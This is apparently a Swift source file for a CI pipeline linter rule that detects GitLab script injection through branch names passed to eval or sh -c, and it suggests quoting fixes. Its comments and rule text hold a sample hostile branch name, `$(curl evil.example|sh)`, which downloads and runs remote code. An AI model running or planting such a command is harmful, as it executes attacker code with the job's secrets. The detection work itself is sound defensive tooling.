import ShrikeFormats
import ShrikeModel
import ShrikeText

/// *What it finds.* Values that whoever pushes a branch or opens a merge request decides, and that a script
/// takes for code, or leaves without quotes.
///
/// *Why it matters.* A branch may be called `$(curl evil.example|sh)`. In quotes that is a text; for `eval`
/// or `sh -c` it is a program that runs with the job's secrets.
///
/// *Example.* `script: [sh -c "deploy $CI_COMMIT_REF_NAME"]`
///
/// *Instead.* `script: [deploy "$CI_COMMIT_REF_NAME"]`, or `$CI_COMMIT_REF_SLUG`
enum GitLabScriptInjection: GitLabAudit {
  static let rule = PipelineRule(
    id: "gitlab-script-injection", title: "a stranger's text becomes part of a script",
    why:
      "A branch may be called `$(curl evil.example|sh)`. For `eval` or `sh -c` that is a program, "
      + "which runs with the job's secrets.",
    instead:
      "`deploy \"$CI_COMMIT_REF_NAME\"` in quotes and without `sh -c`, or `$CI_COMMIT_REF_SLUG`",
    severity: .high, cwe: 78, 88, risks: .poisonedPipeline)

  static func inspect(
    _ settings: GitLabSettings, _ pipeline: GitLabPipeline, _ out: inout PipelineFindings
  ) {
    guard !settings.scripts.isEmpty else { return }
    let foreign = pipeline.foreign.adding(settings.variables)
    var flow = VariableFlow(foreign.texts.union(foreign.names))
    var textFlow = VariableFlow(foreign.texts)
    for script in settings.scripts {
      let uses = flow.uses(in: script.script)
      _ = textFlow.uses(in: script.script)
      for use in uses {
        switch use.kind {
        case .code(let command):
          out.report(
            rule, .high, "\(command) runs what strangers write into \(use.name)",
            at: .init(use.range, "becomes code"),
            related: [.init(settings.name.range, "in this job")].filter { _ in
              settings.name.isScalar
            })
        case .arguments(let command) where textFlow.foreign.contains(use.name):
          out.report(
            rule, .medium, .medium, .regular,
            "\(use.name) without quotes makes further arguments of \(command)",
            at: .init(use.range, "not quoted"), fix: quoting(use, script, out.document))
        case .arguments: break
        }
      }
    }
  }

  /// Quotes around the variable, where YAML leaves them as they are.
  private static func quoting(
    _ use: VariableUse, _ script: GitLabScript, _ document: Document
  ) -> Fix? {
    let bytes = document.text.bytes
    let node = script.node
    guard node.isLiteral || !node.isBlock, bytes.indices.contains(node.range.lower),
      bytes[node.range.lower] != UInt8(ascii: "\""), node.isLiteral || node.contentRange != nil,
      bytes.indices.contains(use.range.lower), bytes[use.range.lower] == UInt8(ascii: "$")
    else { return nil }
    return Fix(
      "quote \(use.name)",
      [
        .init(ByteRange(use.range.lower, use.range.lower), "\""),
        .init(ByteRange(use.range.upper, use.range.upper), "\""),
      ])
  }
}
